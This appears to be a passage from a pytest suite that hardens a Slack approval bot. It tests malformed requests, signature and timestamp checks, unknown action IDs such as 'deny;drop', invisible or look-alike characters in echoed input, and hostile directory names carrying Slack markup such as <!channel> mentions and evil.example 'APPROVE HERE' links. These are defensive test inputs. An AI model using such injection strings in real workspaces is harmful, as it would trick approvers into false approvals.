        # its own trigger_id: a request with the trigger_id of one already received is a copy (request.refused)
        "JSON body, not a form": json.dumps({**good, "trigger_id": good["trigger_id"] + "0"}).encode(),
        "slash command without a command": urlencode({"text": "host01", "user_id": REQUESTER}).encode(),
        "another slash command": urlencode({"command": "/other", "text": "host01", "user_id": REQUESTER}).encode(),
    }


async def test_malformed_requests_never_crash_the_endpoint(probe):
    """DEFECT (fails today): junk bodies and header values make the HTTP endpoint answer 500 and log an ERROR,
    before and without any signature check. Expected: 401 when not signed, 4xx when signed, nothing logged."""
    w, h = probe.w, probe.h
    for name, body in malformed_bodies(w, h).items():
        ts = str(int(time.time()))
        content_type = "application/json" if name.startswith("JSON body") else "application/x-www-form-urlencoded"
        headers = {"Content-Type": content_type, "X-Slack-Request-Timestamp": ts}
        unsigned = {**headers, "X-Slack-Signature": "v0=" + "0" * 64}
        await probe.case("malformed:unsigned", name, lambda b=body, hd=unsigned: raw_post(h, b, hd), expect=(401,))
        signed_headers = {**headers, "X-Slack-Signature": signature_for(SIGNING_SECRET, ts, body)}
        await probe.case(
            "malformed:signed",
            name,
            lambda b=body, hd=signed_headers: raw_post(h, b, hd),
            expect=(200, 400, 404),
            reply_expected=False,
        )
    # over the body limit (issue 17): 413 whether signed or not, before anything parses it
    big = b"payload=" + quote("[" * 100_000).encode()
    for label, signature in (("unsigned", "v0=" + "0" * 64), ("signed", None)):
        ts = str(int(time.time()))
        headers = {
            "Content-Type": "application/x-www-form-urlencoded",
            "X-Slack-Request-Timestamp": ts,
            "X-Slack-Signature": signature or signature_for(SIGNING_SECRET, ts, big),
        }
        await probe.case(
            f"malformed:{label}",
            "payload nested 100000 deep (300 KB)",
            lambda hd=headers: raw_post(h, big, hd),
            expect=(413,),
            reply_expected=False,
        )
    body = b"command=%2Fidm-upgrade&text=help&user_id=U0OUTSIDER1"
    ts = str(int(time.time()))
    good = signature_for(SIGNING_SECRET, ts, body)
    for name, timestamp, signature in [
        ("timestamp not a number", "abc", good),
        ("timestamp empty", "", good),
        ("timestamp in exponent form", "1e9", good),
        ("timestamp with a fraction", f"{ts}.5", good),
        ("signature not ASCII", ts, "v0=é"),
    ]:
        headers = {
            "Content-Type": "application/x-www-form-urlencoded",
            "X-Slack-Request-Timestamp": timestamp,
            "X-Slack-Signature": signature,
        }
        await probe.case("malformed:headers", name, lambda hd=headers: raw_post(h, body, hd), expect=(401,))
    await probe.finish("malformed")


async def test_unknown_action_ids_get_a_clear_refusal(probe):
    """DEFECT (fails today): a click whose action_id the bot does not handle is answered 404 by Bolt
    ("unhandled request"): no refusal reaches the person, and Slack shows its own error."""
    w = probe.w
    for action_id in ("APPROVE", "approve ", "approve_all", "cancel", "grant", "", "deny;drop", "x" * 255, "<@U1>"):
        await probe.click("button:unknown-action-id", OUTSIDER, action_id, w.approval, audited_refusal_by=None)
    await probe.finish("unknown_action_ids")


def echo_problem(text: str) -> str | None:
    """A refusal that quotes the input must show what is wrong with it: no invisible or look-alike characters."""
    quoted = re.match(r"^`([^`]*)`", text)
    if not quoted:
        return None
    echoed = quoted.group(1)
    hidden = [f"U+{ord(c):04X}" for c in echoed if unicodedata.category(c) in ("Cc", "Cf", "Co", "Cn", "Zl", "Zp")]
    if hidden:
        return f"echoes invisible characters {hidden} in {text[:80]!r}"
    skeleton = unicodedata.normalize("NFKC", echoed).translate(CONFUSABLES).lower()
    if echoed != skeleton and skeleton == "host01":
        return f"says `{echoed}` is not a host name without showing how it differs from host01"
    return None


async def test_refusals_show_invisible_and_look_alike_characters(probe):
    """DEFECT (fails today): `bot.commands._show` echoes bidi overrides, zero-width characters, NUL and
    look-alike letters as they are, so the refusal reads "`host01` is not a host name ... Configured hosts:
    host01" (or is reversed by U+202E). Expected: the echo makes the offending character visible."""
    tricky = [t for t in HOST_LIKE if not t.isascii() or any(unicodedata.category(c) == "Cc" for c in t)]
    for text in tricky:
        result = await probe.command("clarity:echo", REQUESTER, text)
        body = await probe.reply(str(result.sent_payload["response_url"]).rsplit("/", 1)[-1])
        if body and (problem := echo_problem(str(body.get("text", "")))):
            probe.fail(f"clarity:echo: {text!r}: {problem}")
    await probe.finish("echo_clarity")


# -- outside text the bot shows: directory names from Workspace ONE Access -------------------------------

HOSTILE_NAMES = [
    "corp <!channel> <https://evil.example|APPROVE HERE>",
    "<!here> urgent",
    "<!everyone>",
    "<!subteam^S0ADMINS01> please approve",
    "<@U0APPROVER1> says yes",
    "<#C0OTHERCHAN1>",
    "<mailto:x@evil.example|help desk>",
    "*bold* _it_ ~x~ `code` > quote",
    "a & b &amp; &lt;!channel&gt;",
    "<https://evil.example>",
    "<<!channel>>",
    "\u202e<!channel>",
]
RAW_MARKUP = re.compile(r"<[!@#]|<(https?|mailto):")


def slack_markup_from(h: Harness) -> list[str]:
    """Every message version in the channel and every ephemeral that carries markup the bot did not write."""
    shown = [
        (f"{m.ts} v{n}", v.text + json.dumps(v.blocks, ensure_ascii=False))
        for m in h.slack.messages(OPS_CHANNEL)
        for n, v in enumerate(m.versions)
    ]
    shown += [
        (f"ephemeral {e.source}", e.text + json.dumps(e.blocks, ensure_ascii=False)) for e in h.slack.ephemerals()
    ]
    ours = re.compile(rf"<@({REQUESTER}|{APPROVER})>|<#{OPS_CHANNEL}>")
    return [f"{where}: {text[:300]!r}" for where, text in shown if RAW_MARKUP.search(ours.sub("", text))]


async def test_hostile_directory_names_reach_slack_only_escaped(slack_bot):
    """Directory names are outside text: shown to approvers escaped, never as a mention, command or link."""
    from sandbox.workspace_one import iwa_directory

    started = time.monotonic()
    directories = [iwa_directory(name, domains=["corp.example.com"]) for name in HOSTILE_NAMES]
    h = await slack_bot("default", ws1_directories=directories, extra=f'slack: requesters = ["{REQUESTER}"]')
    assert (await h.sender.send_slash_command(REQUESTER, "host01")).status == 200
    [run] = await eventually(h.runs, what="the run")
    clicked: set[str] = set()

    async def starttls_request():
        """The STARTTLS request once delivered; the gates before it (the snapshot) are confirmed."""
        for earlier in h.store.approvals(run.id):
            found = h.slack.latest_button(OPS_CHANNEL, gate_named(earlier.gate).button, value=earlier.id)
            if earlier.gate != "STARTTLS" and found and earlier.id not in clicked:
                clicked.add(earlier.id)
                await h.sender.click_button(APPROVER, gate_named(earlier.gate).button, value=earlier.id)
        return delivered_request(h, run.id, "STARTTLS")

    approval, message = await eventually(starttls_request, timeout=60, what="the STARTTLS request")
    request = json.dumps(message.blocks, ensure_ascii=False)
    missing = [name for name in HOSTILE_NAMES if escape_slack(name) not in request]
    assert not missing, f"directories not shown (escaped) to the approver: {missing}"
    await h.sender.click_button(APPROVER, "deny", value=approval.id, message_ts=message.ts)
    await eventually(lambda: not h.store.get_run(run.id).state.active, timeout=60, what="the run to end")
    for text in (f"status {run.id}", "history host01"):
        await h.reply(await h.sender.send_slash_command(REQUESTER, text))
    assert await h.bot.progress.idle(timeout=30)
    assert not h.ws1.updates, "denied: no directory changed"
    problems = slack_markup_from(h)
    record(
        RESULTS,
        "directory_names",
        {
            "cases": len(HOSTILE_NAMES),
            "messages_checked": sum(len(m.versions) for m in h.slack.messages(OPS_CHANNEL)),
            "problems": len(problems),
            "seconds": round(time.monotonic() - started, 2),
        },
    )
    assert not problems, "outside markup reached Slack:\n" + "\n".join(problems[:20])


async def test_hostile_host_output_reaches_slack_only_escaped(slack_bot):
    """What the host reports (its Programs & Features entry: name and version) is shown escaped."""
    started = time.monotonic()
    h = await slack_bot("physical", ws1=False, extra=f'slack: requesters = ["{REQUESTER}"]')
    product = h.host.state.connector
    product.display_name = f"VMware Identity Manager Connector {HOSTILE_NAMES[0]}"  # still matches the pattern
    hostile_version = product.version = f"19.03.0.0 {HOSTILE_NAMES[1]}"  # before the run: nothing reads it yet
    assert (await h.sender.send_slash_command(REQUESTER, "host01")).status == 200
    [run] = await eventually(h.runs, what="the run")
    await h.settle(run.id, approver=APPROVER)
    assert h.store.get_run(run.id).state is RunState.succeeded, h.store.get_run(run.id).result
    await h.reply(await h.sender.send_slash_command(REQUESTER, f"status {run.id}"))
    assert await h.bot.progress.idle(timeout=30)
    shown = "\n".join(v.text + json.dumps(v.blocks) for m in h.slack.messages(OPS_CHANNEL) for v in m.versions)
    assert escape_slack(hostile_version) in shown, "the version the host reported is shown, escaped"
    problems = slack_markup_from(h)
    record(RESULTS, "host_output", {"problems": len(problems), "seconds": round(time.monotonic() - started, 2)})
    assert not problems, "outside markup reached Slack:\n" + "\n".join(problems[:20])


def escape_slack(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@pytest.fixture(autouse=True)
def _quiet_bolt_suggestions():
    """Bolt logs a multi-line suggestion (WARNING) for every unhandled request; ERRORs are still seen."""
    logger = logging.getLogger("slack_bolt")
    level = logger.level
    logger.setLevel(logging.ERROR)
    yield
    logger.setLevel(level)
